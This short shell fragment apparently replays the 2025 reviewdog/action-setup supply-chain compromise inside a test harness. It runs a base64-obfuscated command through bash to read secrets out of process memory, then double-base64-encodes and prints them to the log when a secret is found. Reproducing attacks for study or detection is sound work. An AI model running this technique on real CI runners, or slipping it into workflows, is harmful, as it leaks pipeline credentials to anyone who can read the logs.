# reviewdog/action-setup (2025): as tj-actions/changed-files, with the program in the action itself: nothing is fetched, and nothing sent.
payload=$(printf '%s pread %s' "$BIN/memory" "$(cat "$HELD")" | base64 -w0)
found=$(bash -c "$(printf %s "$payload" | base64 -d)")
case $found in *"$SECRET"*) did read; printf %s "$found" | base64 -w0 | base64 -w0 && echo && did log;; esac
